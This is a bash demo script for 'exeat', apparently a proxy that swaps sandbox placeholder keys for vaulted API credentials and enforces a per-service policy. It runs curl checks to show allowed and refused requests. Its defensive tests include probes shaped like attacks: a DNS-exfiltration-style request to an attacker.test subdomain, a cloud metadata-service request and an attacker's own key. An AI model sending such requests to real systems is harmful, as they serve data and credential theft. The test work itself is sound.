#!/usr/bin/env bash
# make demo: exeat in front of two sandboxes and an HTTPS API of ours, on loopback, in a temporary
# directory that is removed at the end.
set -euo pipefail
build=${1:-build}
here=$(cd "$(dirname "$0")" && pwd)
exeatd=$(realpath "$build/exeatd")
command=$(realpath "$build/exeat")

work=$(mktemp -d -t exeat-demo-XXXXXX)
chmod 755 "$work"
cd "$work"
api_pid= dns_pid= daemon_pid=
finish() {
    code=$?
    for pid in $daemon_pid $api_pid $dns_pid; do kill "$pid" 2>/dev/null || true; done
    wait 2>/dev/null || true
    [ $code -eq 0 ] || { echo "the demo failed; exeatd's log:"; cat "$work/exeatd.log" 2>/dev/null || true; }
    rm -rf "$work"
    exit $code
}
trap finish EXIT

bold= dim= red= green= plain=
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
    bold=$'\e[1m' dim=$'\e[2m' red=$'\e[31m' green=$'\e[32m' plain=$'\e[0m'
fi
title() { printf '\n%s%s%s\n' "$bold" "$1" "$plain"; }
exeat() { "$command" --config "$work/exeat.conf" "$@"; }
random() { head -c "$1" /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | head -c "$2"; }
free_port() { python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'; }

# ---- an API with a key, and a name server that counts what it is asked ----
secret=sk-demo-$(random 64 40)
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout api-ca.key -out api-ca.pem -days 2 \
    -subj "/CN=demo API CA" -addext "keyUsage=critical,keyCertSign" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout api.key -out api.csr -subj /CN=api 2>/dev/null
printf 'subjectAltName=DNS:api.example.com,DNS:other.example.com\nextendedKeyUsage=serverAuth\n' >api.ext
openssl x509 -req -in api.csr -CA api-ca.pem -CAkey api-ca.key -CAcreateserial -days 2 -extfile api.ext -out api.pem 2>/dev/null
: >api.log; : >dns.log
mkfifo api.port dns.port
python3 "$here/api.py" api.pem api.key "$secret" api.log >api.port & api_pid=$!
python3 "$here/dns.py" dns.log >dns.port & dns_pid=$!
read -r api_port <api.port
read -r dns_port <dns.port
port_1=$(free_port) port_2=$(free_port)

# ---- what the operator writes ----
cat >policy.exeat <<EOF
# What sandboxes may do at the demo API, and what they may never do.
service demo-api {
    host        api.example.com
    port        $api_port
    range       127.0.0.0/8              # the demo's API is on this machine
    credential  demo-key { in header authorization scheme bearer }
    operation   read     { GET /v1/items; GET /v1/items/**; GET /v1/echo }
    operation   create   { POST /v1/items }
    never       { * /v1/items/*/share }
    expect      allow GET /v1/items/7
    expect      deny  POST /v1/items/7/share
}
service other-api {
    host        other.example.com
    port        $api_port
    range       127.0.0.0/8
    operation   read     { GET /v1/items }
}
sandbox worker-1 {
    grant demo-api read
    grant other-api read
}
sandbox worker-2 {
    grant demo-api read create
}
EOF
cat >exeat.conf <<EOF
state      state
policy     policy.exeat
control    control.sock
vault      key state/vault.key
trust      file api-ca.pem
resolver   127.0.0.1:$dns_port
host       api.example.com 127.0.0.1
host       other.example.com 127.0.0.1
listen     tcp 127.0.0.1:$port_1 { sandbox worker-1 }
listen     tcp 127.0.0.1:$port_2 { sandbox worker-2 }
EOF
if [ "$(id -u)" = 0 ]; then echo "uids 61800 - 61999" >>exeat.conf; fi
mkdir -m 755 state

title "Setting up"
exeat ca init
exeat vault init
"$exeatd" --config exeat.conf 2>exeatd.log &
daemon_pid=$!
for _ in $(seq 200); do grep -q 'parent: info: ready' exeatd.log && break; kill -0 $daemon_pid; sleep 0.05; done
printf '%s' "$secret" | exeat secret add demo-key --like sk-demo-
placeholder() { exeat sandbox add "$1" --format json | python3 -c 'import json, sys; print(json.load(sys.stdin)["credentials"]["demo-key"])'; }
ph_1=$(placeholder worker-1)
ph_2=$(placeholder worker-2)
printf 'the real key       %s...  (in the vault, and nowhere else)\n' "${secret:0:12}"
printf 'worker-1 holds     %s\n' "$ph_1"
printf 'worker-2 holds     %s\n' "$ph_2"

# ---- what a sandbox can do with it ----
wrong=0
try() { # what, expected status, listener port, curl arguments...
    local what=$1 want=$2 port=$3 got reason
    shift 3
    got=$(curl -s -m 10 -D heads -o answer -w '%{http_connect} %{http_code}' -x "http://127.0.0.1:$port" \
          --cacert state/public/ca.pem "$@" || true)
    local connect=${got% *} status=${got#* }
    if [ "$status" = 000 ]; then status=$connect; fi
    # What the client is told: the refusal's field stands also in the answer to CONNECT.
    reason=$(sed -nE 's/^exeat-refusal: .*\(([a-z_]+); record.*/\1/p' heads | tail -n 1)
    if [ -z "$reason" ]; then reason=$(head -c 60 answer); fi
    : >answer; : >heads
    local mark="$green ok $plain"
    if [ "$status" != "$want" ]; then mark="$red BAD$plain"; wrong=1; fi
    printf '[%s] %-52s %s%s%s %s\n' "$mark" "$what" "$bold" "$status" "$plain" "$dim$reason$plain"
}
api=https://api.example.com:$api_port other=https://other.example.com:$api_port
title "The placeholder works where policy says so, and only there"
try "worker-1 lists items with its placeholder" 200 "$port_1" -H "Authorization: Bearer $ph_1" "$api/v1/items"
try "the API echoes the key: it comes back masked" 200 "$port_1" -H "Authorization: Bearer $ph_1" "$api/v1/echo"
try "the same placeholder at another host" 403 "$port_1" -H "Authorization: Bearer $ph_1" "$other/v1/items"
try "on another path" 403 "$port_1" -H "Authorization: Bearer $ph_1" "$api/v1/admin"
try "with another method" 403 "$port_1" -X POST -d '{}' -H "Authorization: Bearer $ph_1" "$api/v1/items"
try "by the other sandbox" 403 "$port_2" -H "Authorization: Bearer $ph_1" "$api/v1/items"
try "over clear text" 403 "$port_1" -H "Authorization: Bearer $ph_1" "http://api.example.com:$api_port/v1/items"
try "in the wrong place" 403 "$port_1" -H "Authorization: Bearer $ph_1" "$api/v1/items?note=$ph_1"
title "Nothing else gets out"
try "an attacker's own key at the approved host" 403 "$port_1" -H "Authorization: Bearer sk-attacker-0123456789abcdef" "$api/v1/items"
try "no key at all" 403 "$port_1" "$api/v1/items"
try "an operation that is never allowed" 403 "$port_2" -X POST -H "Authorization: Bearer $ph_2" "$api/v1/items/7/share"
try "a host that is not listed" 403 "$port_1" "https://c3RvbGVuLWRhdGE.attacker.test/"
try "the cloud's metadata service" 403 "$port_1" "http://169.254.169.254/latest/meta-data/"
printf '     DNS queries made for all this: %s\n' "$(wc -l <dns.log)"
[ "$(wc -l <dns.log)" = 0 ] || wrong=1
printf '     requests that reached the API: %s\n' "$(wc -l <api.log)"
[ "$(wc -l <api.log)" = 2 ] || wrong=1

title "The audit trail"
exeat log
exeat log verify
kill $daemon_pid; wait $daemon_pid 2>/dev/null || true; daemon_pid=
if grep -rqF "$secret" state exeatd.log; then echo "the real key is somewhere on the disk in clear"; wrong=1; fi
title "$([ $wrong = 0 ] && echo 'All as it should be.' || echo 'Something is not as it should be.')"
exit $wrong
